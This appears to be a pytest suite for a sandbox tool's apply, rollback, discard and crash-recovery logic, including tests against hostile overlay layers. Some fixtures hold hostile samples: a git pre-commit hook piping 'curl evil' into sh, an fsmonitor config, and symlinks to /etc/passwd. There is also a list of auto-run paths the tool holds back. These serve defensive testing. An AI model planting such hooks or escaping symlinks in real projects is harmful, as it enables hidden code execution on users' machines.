"""apply / rollback / discard / recovery, including crashes at every step and hostile layers."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from stockade.changes import journal, planner
from stockade.changes.journal import list_applies
from stockade.changes.recovery import recover_pending
from stockade.changes.rollback import rollback
from stockade.changes.scan import scan
from stockade.errors import UsageError
from tests.conftest import ROOT
from tests.unit.test_changes_support import Builder, overlay_shell, tree_snapshot


def copied_backups(monkeypatch: pytest.MonkeyPatch) -> None:
    """Backups as copies, as where the state directory is on another filesystem (EXDEV)."""
    import errno as errno_mod

    from stockade.changes import executor

    real_link = os.link

    def no_link(src: object, dst: object, *a: object, **k: object) -> None:
        if "backups" in str(dst):
            raise OSError(errno_mod.EXDEV, "cross-device")
        real_link(src, dst, *a, **k)  # type: ignore[arg-type]

    monkeypatch.setattr(executor.os, "link", no_link)


def _changed(tmp_path: Path) -> Builder:
    b = Builder(tmp_path, {"keep": "k\n", "mod": "old\n", "gone": "g\n", "d/x": "x\n", "tree/a": "a\n",
                           "tree/s/b": "b\n", "exe": "#!/bin/sh\n"})
    b.new_session()
    overlay_shell(b.session, "echo new > mod; rm gone; echo n > d/new; rm -r tree; echo added > add; "
                  "chmod 755 exe; ln -s keep lnk; mkdir -p deep/er && echo z > deep/er/z")
    return b


def test_apply_all_then_nothing_left_and_rollback_restores_bytes_and_modes(tmp_path: Path, state_dir: Path) -> None:
    b = _changed(tmp_path)
    before = tree_snapshot(b.project)
    cs = scan(b.session)
    expected_view = {c.path for c in cs.changes}
    res = cs.apply()
    assert set(res.applied) == expected_view
    assert scan(b.session).changes == ()
    assert (b.project / "mod").read_text() == "new\n"
    assert os.readlink(b.project / "lnk") == "keep"
    assert not (b.project / "tree").exists()
    # applied entries left the upper layer
    assert not (b.upper / "mod").exists() and not (b.upper / "add").exists()
    with pytest.raises(UsageError, match="nothing to apply"):
        scan(b.session).apply()
    inode_before = os.stat(b.project / "keep").st_ino
    rollback(res.apply_id)
    assert tree_snapshot(b.project) == before
    assert os.stat(b.project / "keep").st_ino == inode_before
    # the change set is back in the session
    assert {c.path for c in scan(b.session).changes} == expected_view
    with pytest.raises(UsageError, match="already rolled back"):
        rollback(res.apply_id)


def test_partial_apply_pathspec_and_exclude(tmp_path: Path, state_dir: Path) -> None:
    b = _changed(tmp_path)
    cs = scan(b.session)
    res = cs.apply(["deep", "mod", "tree"], exclude=["tree/s"])
    assert "deep/er/z" in res.applied and "mod" in res.applied
    left = {c.path for c in scan(b.session).changes}
    assert "mod" not in left and "deep/er/z" not in left
    assert {"gone", "add", "d/new", "exe", "lnk", "tree/s", "tree/s/b"} <= left
    assert not (b.project / "tree" / "a").exists() and (b.project / "tree" / "s" / "b").exists()
    # the rest applies later, and then nothing is left
    scan(b.session).apply()
    assert scan(b.session).changes == ()
    assert not (b.project / "tree").exists()


def test_pathspec_matching_nothing_is_usage_error_and_changes_nothing(tmp_path: Path, state_dir: Path) -> None:
    b = _changed(tmp_path)
    before = tree_snapshot(b.project)
    with pytest.raises(UsageError, match="did not match"):
        scan(b.session).apply(["nope"])
    assert tree_snapshot(b.project) == before


def test_dry_run_changes_nothing(tmp_path: Path, state_dir: Path) -> None:
    b = _changed(tmp_path)
    before = tree_snapshot(b.project)
    res = scan(b.session).apply(dry_run=True)
    assert res.dry_run and res.operations and res.apply_id is None
    assert tree_snapshot(b.project) == before
    assert list_applies() == []


def test_conflicts_refused_then_forced(tmp_path: Path, state_dir: Path) -> None:
    b = _changed(tmp_path)
    (b.project / "mod").write_text("edited on the host\n")
    before = tree_snapshot(b.project)
    with pytest.raises(UsageError, match=r"conflict.*mod"):
        scan(b.session).apply()
    assert tree_snapshot(b.project) == before
    scan(b.session).apply(force=True)
    assert (b.project / "mod").read_text() == "new\n"


def test_a_fork_judges_conflicts_from_its_parents_start(tmp_path: Path, state_dir: Path) -> None:
    """The fork carries its parent's changes, made against the project as it was when the
    parent started: a host edit after that is a conflict for the fork too (it was judged
    from the fork's own creation, after the edit: overwritten without a word). What the
    parent applied itself is no conflict in the fork either."""
    from stockade.changes import snapshot

    b = _changed(tmp_path)
    scan(b.session).apply(["deep"])  # the parent's own apply: not the user's edit
    (b.project / "mod").write_text("edited on the host\n")
    forked = snapshot.fork(b.session, "forked")
    with pytest.raises(UsageError, match=r"conflict.*mod"):
        scan(forked).apply()
    assert (b.project / "mod").read_text() == "edited on the host\n"
    res = scan(forked).apply([c.path for c in scan(forked).changes if c.path != "mod"])
    assert "mod" not in res.applied


@pytest.mark.parametrize("backup", ["link", "copy"])
def test_an_editors_save_during_the_apply_is_never_lost(
        tmp_path: Path, state_dir: Path, monkeypatch: pytest.MonkeyPatch, backup: str) -> None:
    """The file an op replaces was backed up while the apply prepared; an editor saving it
    meanwhile (a new file renamed over it; or, with a copied backup, bytes written in
    place) made a version no backup holds, which the op then replaced: the apply now
    stops before that op and undoes the rest."""

    from stockade.changes import executor

    b = _changed(tmp_path)
    before = tree_snapshot(b.project)
    if backup == "copy":
        copied_backups(monkeypatch)
    do = executor.Executor.do
    saved: list[str] = []

    def do_after_a_save(self: executor.Executor, n: int, op: dict[str, object]) -> None:
        if not saved:
            saved.append("x")
            if backup == "link":  # an editor's atomic save: a new inode renamed over it
                (b.project / "mod.swp").write_text("the user's save\n")
                os.rename(b.project / "mod.swp", b.project / "mod")
            else:  # a save in place
                with open(b.project / "mod", "w") as f:
                    f.write("the user's save\n")
        do(self, n, op)

    monkeypatch.setattr(executor.Executor, "do", do_after_a_save)
    with pytest.raises(UsageError, match="mod: it changed on the host while applying"):
        scan(b.session).apply()
    assert (b.project / "mod").read_text() == "the user's save\n"
    after = tree_snapshot(b.project)
    assert {k: v for k, v in after.items() if k != "mod"} == {k: v for k, v in before.items() if k != "mod"}


def test_hard_links_in_the_project_with_copied_backups_apply(
        tmp_path: Path, state_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two paths of one inode (pnpm's node_modules): replacing the first moves the inode's
    ctime, which must not read as an edit of the second (the check is mtime and size)."""


    b = Builder(tmp_path, {"a": "shared\n"})
    os.link(b.project / "a", b.project / "b")
    b.new_session()
    b.up("a", "new a\n")
    b.up("b", "new b\n")
    copied_backups(monkeypatch)
    scan(b.session).apply()
    assert (b.project / "a").read_text() == "new a\n" and (b.project / "b").read_text() == "new b\n"


def test_second_apply_of_same_path_is_not_a_conflict(tmp_path: Path, state_dir: Path) -> None:
    b = _changed(tmp_path)
    scan(b.session).apply(["mod"])
    overlay_shell(b.session, "echo newer > mod")
    scan(b.session).apply(["mod"])
    assert (b.project / "mod").read_text() == "newer\n"


def test_held_back_vectors_need_explicit_names(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path, {".git/config": "[core]\n", "ok": "o\n"})
    b.new_session()
    b.up(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
    b.up(".git/config", "[core]\n\tfsmonitor = evil\n")
    b.up(".envrc", "evil\n")
    b.up(".vscode/tasks.json", "{}\n")
    b.up("src/.bashrc", "evil\n")
    b.up("ok", "changed\n")
    res = scan(b.session).apply()
    assert res.applied == ("ok",)
    assert set(res.held_back) == {".git/hooks/pre-commit", ".git/config", ".envrc", ".vscode/tasks.json",
                                  "src/.bashrc", ".git/hooks", ".vscode", "src"}  # their new dirs too
    assert not (b.project / "src").exists()
    assert not (b.project / ".git" / "hooks").exists()
    with pytest.raises(UsageError, match="held back"):
        scan(b.session).apply()
    with pytest.raises(UsageError, match="held back"):
        scan(b.session).apply(["*"])  # a glob does not name them
    res = scan(b.session).apply([".git/hooks/pre-commit"])
    assert res.applied == (".git/hooks", ".git/hooks/pre-commit") or ".git/hooks/pre-commit" in res.applied
    assert (b.project / ".git" / "hooks" / "pre-commit").exists()


def test_whiteout_over_git_is_held_back(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path, {".git/HEAD": "ref\n", "a": "a\n"})
    b.new_session()
    b.whiteout(".git")
    b.up("a", "b\n")
    res = scan(b.session).apply()
    assert ".git" in res.held_back and (b.project / ".git" / "HEAD").exists()


def test_target_directory_became_a_file(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path, {"d/x": "x\n"})
    b.new_session()
    overlay_shell(b.session, "echo n > d/new")
    import shutil

    shutil.rmtree(b.project / "d")
    (b.project / "d").write_text("a file now\n")
    before = tree_snapshot(b.project)
    with pytest.raises(UsageError) as ei:
        scan(b.session).apply(["d/new"])
    assert "\n" not in str(ei.value)
    assert tree_snapshot(b.project) == before


def test_refused_entries_never_applied(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path)
    os.mkfifo(b.upper / "fifo")
    with pytest.raises(UsageError, match="refused"):
        scan(b.session).apply()
    assert not (b.project / "fifo").exists()


# ---- hostile upper layers -----------------------------------------------------------------------


def test_symlink_swapped_for_directory_does_not_escape(tmp_path: Path, state_dir: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim").write_text("safe\n")
    b = Builder(tmp_path, {"d/victim": "project\n"})
    b.new_session()
    # lower frozen layer writes d/victim; the upper replaces d by a symlink pointing outside
    l1 = b.session.layers_dir / "001-s"
    l1.mkdir(parents=True)  # layers/ is made with the first snapshot
    b.up("d/victim", "pwned\n", layer=l1)
    b.symlink("d", str(outside))
    snap_out = tree_snapshot(outside)
    cs = scan(b.session)
    res = cs.apply(force=True)  # a symlink leading out waits to be named
    assert res.held_back == ("d",) and "resolves outside the project" in res.why_held["d"]
    assert not (b.project / "d").is_symlink()
    scan(b.session).apply(["d"], force=True)
    assert tree_snapshot(outside) == snap_out
    assert os.readlink(b.project / "d") == str(outside)  # created as a symlink, never followed


def test_host_symlink_on_the_way_is_refused(tmp_path: Path, state_dir: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    b = Builder(tmp_path, {"d/x": "x"})
    b.new_session()
    b.up("d/evil", "pwned\n")
    # the host's d is swapped for a symlink after the scan, before the apply runs
    cs = scan(b.session)
    import shutil

    shutil.rmtree(b.project / "d")
    os.symlink(str(outside), b.project / "d")
    with pytest.raises(UsageError):
        cs.apply(["d/evil"], force=True)
    assert list(outside.iterdir()) == []


def test_absolute_symlinks_and_dotdot_targets_stay_symlinks(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path)
    b.symlink("abs", "/etc/passwd")
    b.symlink("up", "../../../../etc")
    with pytest.raises(UsageError, match="2 held back"):
        scan(b.session).apply()
    scan(b.session).apply(["abs", "up"])
    assert os.readlink(b.project / "abs") == "/etc/passwd"
    assert os.readlink(b.project / "up") == "../../../../etc"


def test_fallback_walk_without_openat2(tmp_path: Path, state_dir: Path) -> None:
    from stockade.changes import _safefs

    (tmp_path / "fb").mkdir()
    _safefs.force_fallback(True)
    try:
        test_host_symlink_on_the_way_is_refused(tmp_path / "fb", state_dir)
    finally:
        _safefs.force_fallback(False)


# ---- discard ------------------------------------------------------------------------------------------


def test_discard_paths_and_all(tmp_path: Path, state_dir: Path) -> None:
    b = _changed(tmp_path)
    before = tree_snapshot(b.project)
    scan(b.session).discard(["mod", "tree"])
    left = {c.path for c in scan(b.session).changes}
    assert "mod" not in left and not any(p.startswith("tree") for p in left)
    assert "gone" in left
    scan(b.session).discard()
    assert scan(b.session).changes == ()
    assert tree_snapshot(b.project) == before


def test_discard_under_opaque_dir_keeps_the_other_deletions(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path, {"d/a": "a", "d/b": "b", "d/c": "c"})
    b.new_session()
    overlay_shell(b.session, "rm -r d; mkdir d; echo new > d/n")
    scan(b.session).discard(["d/a"])
    assert {c.path: c.letter for c in scan(b.session).changes} == {"d/b": "D", "d/c": "D", "d/n": "A"}
    overlay_shell(b.session, "cat d/a > /dev/null && test ! -e d/b")  # the real overlay agrees


def test_discard_never_goes_through_a_symlink_the_command_left_in_a_layer(tmp_path: Path, state_dir: Path) -> None:
    """Run 1 left x as a symlink to a host directory (frozen in a snapshot); run 2 made x
    a directory with x/sub. Discarding x/sub tidies the emptied directory in every layer:
    in the lower one, x/sub went through the symlink and removed (or chmodded) the host's
    own directory there. A layer is reached through fds with no symlink followed."""
    from stockade.changes import snapshot

    outside = tmp_path / "outside"
    (outside / "sub").mkdir(parents=True)
    os.chmod(outside, 0o755)
    b = Builder(tmp_path, {"keep": "k\n"})
    b.new_session()
    b.symlink("x", str(outside))
    snapshot.create(b.session, "run1")
    b.opaque_dir("x")
    (b.upper / "x" / "sub").mkdir(mode=0o700)
    assert {c.path for c in scan(b.session).changes} >= {"x", "x/sub"}
    scan(b.session).discard(["x/sub"])
    assert (outside / "sub").is_dir()  # the host's directory, untouched
    assert not (b.upper / "x" / "sub").exists()


def test_partial_apply_under_opaque_dir_real_overlay_agrees(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path, {"d/a": "a", "d/b": "b"})
    b.new_session()
    overlay_shell(b.session, "rm -r d; mkdir d; echo new > d/n; echo A > d/a")
    scan(b.session).apply(["d/n"])
    assert {c.path: c.letter for c in scan(b.session).changes} == {"d/a": "M", "d/b": "D"}
    overlay_shell(b.session, 'test "$(cat d/a)" = A && test ! -e d/b && test "$(cat d/n)" = new')


# ---- crashes -------------------------------------------------------------------------------------------

_CHILD = """
import sys
from stockade.session import store
from stockade.changes.scan import scan
scan(store.open_session(sys.argv[1])).apply()
"""


def _apply_in_child(b: Builder, crash_after: int | None) -> int:
    env = {**os.environ, "PYTHONPATH": f"{ROOT / 'src'}:{ROOT}"}
    if crash_after is not None:
        env["STOCKADE_TEST_CRASH_AFTER"] = str(crash_after)
    r = subprocess.run([sys.executable, "-c", _CHILD, b.session.id], env=env, capture_output=True)
    return r.returncode


def test_sigkill_at_every_step_recovers_to_wholly_old_or_wholly_new(tmp_path: Path, state_dir: Path) -> None:
    probe = _changed(tmp_path / "probe")
    assert _apply_in_child(probe, None) == 0
    n = 1
    seen_kill = seen_done = 0
    while True:
        b = _changed(tmp_path / f"k{n}")
        old = tree_snapshot(b.project)
        view = {c.path for c in scan(b.session).changes}
        rc = _apply_in_child(b, n)
        if rc == 0:
            seen_done += 1
            assert recover_pending() == []
            break
        assert rc == -9, rc
        seen_kill += 1
        # per-file atomicity right after the crash: every file is old or new content, no temp files
        leftovers = [p for p in b.project.rglob("*") if ".stockade-" in p.name]
        msgs = recover_pending()
        assert msgs, "a killed apply must leave something to recover"
        assert not [p for p in b.project.rglob("*") if ".stockade-" in p.name]
        now = tree_snapshot(b.project)
        left = {c.path for c in scan(b.session).changes}
        if "finished" in msgs[0]:
            assert left == set(), (n, left)
            assert (b.project / "mod").read_text() == "new\n"
            # what it left is on record (written by recovery when the crash came first): a
            # user's later edit makes a rollback ask for --force, never lost silently
            (done,) = [a for a in list_applies() if a.state == "done" and Path(a.project) == b.project.resolve()]
            (b.project / "mod").write_text("the user's edit after it\n")
            with pytest.raises(UsageError, match="changed since"):
                rollback(done.id)
            rollback(done.id, force=True)
            assert tree_snapshot(b.project) == old, n
        else:
            assert now == old, (n, msgs)
            assert left == view, (n, msgs)
        del leftovers
        n += 1
        assert n < 200
    assert seen_kill > 10 and seen_done == 1


_ROLLBACK_CHILD = """
import sys
from stockade.changes.rollback import rollback
rollback(sys.argv[1])
"""


def test_sigkill_during_rollback_recovers_to_the_state_before_the_apply(tmp_path: Path, state_dir: Path) -> None:
    n = 1
    while True:
        b = _changed(tmp_path / f"r{n}")
        before = tree_snapshot(b.project)
        view = {c.path for c in scan(b.session).changes}
        res = scan(b.session).apply()
        env = {**os.environ, "PYTHONPATH": f"{ROOT / 'src'}:{ROOT}", "STOCKADE_TEST_CRASH_AFTER": str(n)}
        r = subprocess.run([sys.executable, "-c", _ROLLBACK_CHILD, str(res.apply_id)], env=env, capture_output=True)
        if r.returncode == 0:
            break
        assert r.returncode == -9, r.stderr
        msgs = recover_pending()
        assert msgs and "rollback" in msgs[0], msgs
        assert tree_snapshot(b.project) == before, n
        assert {c.path for c in scan(b.session).changes} == view, n
        n += 1
        assert n < 100
    assert n > 3


def test_recover_pending_is_cheap_and_empty_when_nothing_pending(state_dir: Path) -> None:
    assert recover_pending() == []
    assert not (journal.pending_dir()).exists() or not os.listdir(journal.pending_dir())


def test_rollback_refuses_when_applied_file_changed_since(tmp_path: Path, state_dir: Path) -> None:
    b = _changed(tmp_path)
    res = scan(b.session).apply()
    (b.project / "mod").write_text("user edited after apply\n")
    with pytest.raises(UsageError, match="changed since"):
        rollback(res.apply_id)
    assert (b.project / "mod").read_text() == "user edited after apply\n"
    rollback(res.apply_id, force=True)
    assert (b.project / "mod").read_text() == "old\n"


def test_rollback_puts_back_a_deleted_file_whose_directory_was_removed_since(tmp_path: Path, state_dir: Path) -> None:
    """The apply deleted old/a; the user then removed old/ (rm -r, git mv). The rollback
    used to skip a.txt (its directory was gone), delete its backup and say it was done:
    the file's only copy lost. Now: refused as a change of the user's, and with --force
    old/ is made again and a.txt put back; a file where old/ was stops it, backups kept."""
    b = Builder(tmp_path, {"old/a.txt": "the only copy\n", "old/b.txt": "b\n", "keep": "k\n"})
    b.new_session()
    overlay_shell(b.session, "rm old/a.txt")
    res = scan(b.session).apply()
    assert not (b.project / "old" / "a.txt").exists()
    (b.project / "old" / "b.txt").unlink()
    (b.project / "old").rmdir()
    with pytest.raises(UsageError, match=r"changed since.*old/a\.txt"):
        rollback(res.apply_id)
    (b.project / "old").write_text("the user's file where the directory was\n")
    with pytest.raises(UsageError, match="old is no longer a directory"):
        rollback(res.apply_id, force=True)
    assert (b.project / "old").read_text() == "the user's file where the directory was\n"
    (b.project / "old").unlink()
    recover_pending()  # (the stopped rollback is finished by recovery: nothing is lost meanwhile)
    assert (b.project / "old" / "a.txt").read_text() == "the only copy\n"
    assert [a.state for a in list_applies() if a.id == res.apply_id] == ["rolled-back"]


def test_copied_backups_are_on_disk_before_the_project_changes_and_until_the_rollback_is(
        tmp_path: Path, state_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where a backup cannot be a hard link (the state directory on another filesystem:
    EXDEV), it is a copy, fsynced (the project's syncfs does not reach it): a power loss
    must not leave an empty backup beside a replaced file. A rollback syncs the project
    before it deletes the backups, the restored files' only other copy."""

    from stockade.changes import executor

    b = _changed(tmp_path)
    copied_backups(monkeypatch)
    synced: list[str] = []
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        synced.append(os.readlink(f"/proc/self/fd/{fd}"))
        real_fsync(fd)

    order: list[str] = []
    real_syncfs, real_rmtree = executor.syncfs, executor.shutil.rmtree
    monkeypatch.setattr(executor.os, "fsync", fsync)
    monkeypatch.setattr(executor, "syncfs", lambda fd: (order.append("syncfs"), real_syncfs(fd))[1])
    monkeypatch.setattr(executor.shutil, "rmtree",
                        lambda p, **k: (order.append(f"rmtree {Path(p).name}"), real_rmtree(p, **k))[1])
    res = scan(b.session).apply(["mod"])
    assert any("/backups/" in p for p in synced), synced
    rollback(res.apply_id)
    assert (b.project / "mod").read_text() == "old\n"
    assert "rmtree backups" in order and order.index("syncfs") < order.index("rmtree backups"), order


def test_rollback_without_a_record_of_what_the_apply_left_asks_for_force(tmp_path: Path, state_dir: Path) -> None:
    """Without it, changes made since cannot be told from the apply's own: refused (it
    went ahead, over a user's later edits)."""
    b = _changed(tmp_path)
    res = scan(b.session).apply(["mod"])
    (journal.applies_dir() / res.apply_id / "result.json").unlink()
    with pytest.raises(UsageError, match=r"record of what it left .* is missing"):
        rollback(res.apply_id)
    assert (b.project / "mod").read_text() == "new\n"
    rollback(res.apply_id, force=True)
    assert (b.project / "mod").read_text() == "old\n"


def test_rollback_of_unknown_apply(state_dir: Path) -> None:
    with pytest.raises(UsageError, match="no apply"):
        rollback("nope")
    with pytest.raises(UsageError, match="no apply"):
        rollback(None)


def test_mode_bits_preserved_exactly(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path, {"f": "f"})
    (b.project / "f").chmod(0o640)
    b.new_session()
    b.up("f", "g", 0o4750 if os.geteuid() == 0 else 0o750)
    b.up("n", "n", 0o600)
    res = scan(b.session).apply()
    assert stat.S_IMODE(os.stat(b.project / "n").st_mode) == 0o600
    rollback(res.apply_id)
    assert stat.S_IMODE(os.stat(b.project / "f").st_mode) == 0o640


# ---- new files and directories (O_TMPFILE, whole-directory moves) -------------------------------------


def test_new_directory_leaves_every_layer_whole_and_rollback_puts_it_back(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path, {"keep": "k\n"})
    b.new_session()
    frozen = b.session.layers_dir / "001-s"
    frozen.mkdir(parents=True)
    b.up("nd/a", "a\n", layer=frozen)
    b.up("nd/gone", "g\n", layer=frozen)
    b.up("nd/sub/b", "b\n")
    b.whiteout("nd/gone")
    b.up("other", "o\n")
    before = tree_snapshot(b.project)
    view = {c.path: c.letter for c in scan(b.session).changes}
    assert view == {"nd": "A", "nd/a": "A", "nd/sub": "A", "nd/sub/b": "A", "other": "A"}
    res = scan(b.session).apply()
    assert (b.project / "nd" / "a").read_text() == "a\n" and (b.project / "nd" / "sub" / "b").read_text() == "b\n"
    assert not (b.project / "nd" / "gone").exists()
    assert not (frozen / "nd").exists() and not (b.upper / "nd").exists()
    assert scan(b.session).changes == ()
    rollback(res.apply_id)
    assert tree_snapshot(b.project) == before
    assert {c.path: c.letter for c in scan(b.session).changes} == view


def test_rollback_merges_into_a_directory_a_later_run_made(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path)
    b.up("nd/a", "a\n")
    b.up("nd/sub/b", "b\n")
    res = scan(b.session).apply()
    b.up("nd/c", "c\n")  # a later run writes into the (now applied) directory again
    assert {c.path for c in scan(b.session).changes} == {"nd/c"}
    rollback(res.apply_id)
    assert not (b.project / "nd").exists()
    assert {c.path for c in scan(b.session).changes} == {"nd", "nd/a", "nd/sub", "nd/sub/b", "nd/c"}
    assert (b.upper / "nd" / "sub" / "b").read_text() == "b\n"


def test_partial_apply_of_a_new_directory_moves_only_what_was_applied(tmp_path: Path, state_dir: Path) -> None:
    b = Builder(tmp_path)
    b.up("nd/a", "a\n")
    b.up("nd/b", "b\n")
    scan(b.session).apply(["nd/a"])
    assert (b.project / "nd" / "a").exists() and not (b.project / "nd" / "b").exists()
    assert {c.path for c in scan(b.session).changes} == {"nd/b"}
    scan(b.session).apply()
    assert scan(b.session).changes == ()


def test_added_file_that_appears_on_the_host_meanwhile_is_not_replaced(
    tmp_path: Path, state_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    b = Builder(tmp_path, {"keep": "k\n"})
    b.new_session()
    b.up("a", "a\n")
    b.up("n", "sandbox\n")
    b.up("z", "z\n")
    build = planner.Planner.build

    def build_then_host_writes(self: planner.Planner) -> list[dict[str, object]]:
        ops = build(self)
        (b.project / "n").write_text("host\n")
        return ops

    monkeypatch.setattr(planner.Planner, "build", build_then_host_writes)
    with pytest.raises(UsageError, match="appeared on the host"):
        scan(b.session).apply()
    assert (b.project / "n").read_text() == "host\n"
    assert not (b.project / "a").exists() and not (b.project / "z").exists()
    assert recover_pending() == []


def test_apply_and_rollback_without_o_tmpfile(tmp_path: Path, state_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from stockade.changes import _safefs

    monkeypatch.setattr(_safefs, "_tmpfile_ok", False)
    test_apply_all_then_nothing_left_and_rollback_restores_bytes_and_modes(tmp_path, state_dir)
    test_new_directory_leaves_every_layer_whole_and_rollback_puts_it_back(tmp_path / "nd", state_dir)


@pytest.mark.parametrize("what", ["file", "file-no-o-tmpfile", "directory"])
def test_a_path_that_appears_on_the_host_during_the_apply_is_left_as_it_is(
        tmp_path: Path, state_dir: Path, monkeypatch: pytest.MonkeyPatch, what: str) -> None:
    """A new file or directory of the change set that appears on the host meanwhile is
    the user's: the apply stops (nothing of it applied) and it stays. Without O_TMPFILE a
    new file went in by rename, over the one that appeared; a directory that appeared was
    removed by the undo when empty."""
    from stockade.changes import _safefs, executor

    if what == "file-no-o-tmpfile":
        monkeypatch.setattr(_safefs, "_tmpfile_ok", False)
    b = _changed(tmp_path)
    target = "deep" if what == "directory" else "add"
    do = executor.Executor.do

    def do_after_it_appeared(self: executor.Executor, n: int, op: dict[str, object]) -> None:
        if op["path"] == target:
            if what == "directory":
                (b.project / target).mkdir()
            else:
                (b.project / target).write_text("the user's own\n")
        do(self, n, op)

    monkeypatch.setattr(executor.Executor, "do", do_after_it_appeared)
    with pytest.raises(UsageError, match=f"{target}: it appeared on the host while applying"):
        scan(b.session).apply()
    if what == "directory":
        assert (b.project / target).is_dir() and not os.listdir(b.project / target)
    else:
        assert (b.project / target).read_text() == "the user's own\n"
    assert (b.project / "mod").read_text() == "old\n"  # the rest undone


def test_parent_refuses_escaping_names(tmp_path: Path) -> None:
    from stockade.changes._safefs import Root

    (tmp_path / "a").mkdir()
    with Root(tmp_path) as r:
        r.dirfd("a")  # cached: the fast path must still check the final component
        for bad in ("a/..", "/a", "a//b", "..", "a/./b", "a/", "", "../x", "a/../b"):
            with pytest.raises(OSError):
                r.parent(bad)
        assert r.parent("a/b")[1] == "b" and r.parent("x")[1] == "x"


def test_held_back_reason() -> None:
    from stockade.changes.held import held_back_reason

    assert held_back_reason(".git") == ".git" and held_back_reason(".git/hooks/pre-commit") == ".git"
    assert held_back_reason(".vscode/tasks.json") == ".vscode/tasks.json"
    assert held_back_reason(".vscode/other.json") is None
    assert held_back_reason(".idea/runConfigurations/x.xml") == ".idea/runConfigurations"
    assert held_back_reason("src/.bashrc") == ".bashrc" and held_back_reason("a/b/c/x.pth") is not None
    assert held_back_reason("src/.git") == ".git" and held_back_reason("a/b/.git/config") == ".git"
    assert held_back_reason("src/app.py") is None and held_back_reason("src/.gitignore") is None
    assert held_back_reason(".gitx") is None
